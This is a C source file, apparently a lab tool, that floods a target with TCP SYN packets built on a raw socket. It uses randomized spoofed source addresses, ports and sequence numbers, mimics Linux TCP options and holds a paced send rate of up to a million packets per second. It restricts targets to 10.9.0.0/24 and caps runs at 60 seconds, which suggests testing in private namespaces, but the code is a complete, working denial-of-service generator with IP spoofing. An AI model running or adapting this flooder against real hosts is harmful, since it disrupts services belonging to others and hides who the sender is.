/* SYNs at a fixed rate from addresses that nobody has. See README.md.
 *
 *   flood INTERFACE SOURCE_MAC DESTINATION_MAC ADDRESS PORT RATE SECONDS
 *
 * For namespaces of one's own only: it refuses addresses outside 10.9.0.0/24. Writes how many were sent, as JSON. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 32
#define PAUSE_NS 100000
#define OPTIONS 20

struct syn {
    struct ether_header eth;
    struct iphdr ip;
    struct tcphdr tcp;
    uint8_t options[OPTIONS];
} __attribute__((packed));

static uint64_t seed = 88172645463325252ull;

static uint32_t draw(void) { /* Marsaglia's xorshift64 */
    seed ^= seed << 13;
    seed ^= seed >> 7;
    seed ^= seed << 17;
    return seed >> 16;
}

static uint64_t now_ns(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec * 1000000000ull + t.tv_nsec;
}

static uint32_t sum_of(const void *data, int bytes, uint32_t sum) {
    const uint8_t *at = data;
    for (int i = 0; i + 1 < bytes; i += 2)
        sum += at[i] << 8 | at[i + 1];
    return sum;
}

static uint16_t folded(uint32_t sum) {
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return htons(~sum);
}

static int mac(const char *text, uint8_t *m) {
    return sscanf(text, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", m, m + 1, m + 2, m + 3, m + 4, m + 5) == 6;
}

static void vary(struct syn *s) {
    s->ip.saddr = htonl(0x0a400000 | (draw() & 0x3fffff)); /* 10.64.0.0/10 */
    s->tcp.source = htons(1024 + draw() % 64000);
    s->tcp.seq = draw();
    s->ip.check = 0;
    s->ip.check = folded(sum_of(&s->ip, sizeof s->ip, 0));
    s->tcp.check = 0;
    uint32_t pseudo = sum_of(&s->ip.saddr, 8, IPPROTO_TCP + sizeof s->tcp + OPTIONS);
    s->tcp.check = folded(sum_of(&s->tcp, sizeof s->tcp + OPTIONS, pseudo));
}

int main(int count, char **args) {
    struct in_addr to;
    if (count != 8 || inet_pton(AF_INET, args[4], &to) != 1 || ntohl(to.s_addr) >> 8 != 0x0a0900) {
        fprintf(stderr, "usage: flood INTERFACE MAC MAC 10.9.0.x PORT RATE SECONDS\n");
        return 2;
    }
    double rate = atof(args[6]), seconds = atof(args[7]);
    if (rate < 1 || rate > 1e6 || seconds <= 0 || seconds > 60)
        return 2;
    int fd = socket(AF_PACKET, SOCK_RAW, 0), on = 1;
    if (fd < 0) {
        perror("socket");
        return 1;
    }
    static struct syn syns[BATCH];
    struct syn first = {.eth.ether_type = htons(ETHERTYPE_IP)};
    if (!mac(args[2], first.eth.ether_shost) || !mac(args[3], first.eth.ether_dhost))
        return 2;
    first.ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP, .daddr = to.s_addr,
                              .tot_len = htons(sizeof first - sizeof first.eth), .frag_off = htons(0x4000)};
    first.tcp = (struct tcphdr){.dest = htons(atoi(args[5])), .doff = 10, .syn = 1, .window = htons(64240)};
    /* MSS 1460, SACK permitted, timestamps, no-op, window scale 7: as Linux asks */
    static const uint8_t options[OPTIONS] = {2, 4, 0x05, 0xb4, 4, 2, 8, 10, 0, 0, 1, 0, 0, 0, 0, 0, 1, 3, 3, 7};
    memcpy(first.options, options, OPTIONS);
    struct sockaddr_ll out = {.sll_family = AF_PACKET, .sll_ifindex = if_nametoindex(args[1])};
    setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof on);
    struct mmsghdr messages[BATCH] = {0};
    struct iovec pieces[BATCH];
    for (int i = 0; i < BATCH; i++) {
        syns[i] = first;
        pieces[i] = (struct iovec){&syns[i], sizeof syns[i]};
        messages[i].msg_hdr = (struct msghdr){.msg_name = &out, .msg_namelen = sizeof out, .msg_iov = &pieces[i], .msg_iovlen = 1};
    }
    uint64_t began = now_ns(), end = began + seconds * 1e9, sent = 0, lost = 0, last = began;
    uint64_t every = BATCH / rate * 1e9;
    for (uint64_t at = began; at < end; at = now_ns()) {
        /* What was missed is made up for at twice the rate, not at once: bursts overrun any queue. */
        if (sent + lost + BATCH > (at - began) * 1e-9 * rate || at - last < every / 2) {
            struct timespec pause = {0, PAUSE_NS};
            nanosleep(&pause, NULL);
            continue;
        }
        last = at;
        for (int i = 0; i < BATCH; i++)
            vary(&syns[i]);
        int n = sendmmsg(fd, messages, BATCH, MSG_DONTWAIT);
        sent += n > 0 ? n : 0;
        lost += BATCH - (n > 0 ? n : 0);
    }
    printf("{\"sent\": %lu, \"lost\": %lu, \"seconds\": %.3f}\n", sent, lost, (now_ns() - began) / 1e9);
    return 0;
}
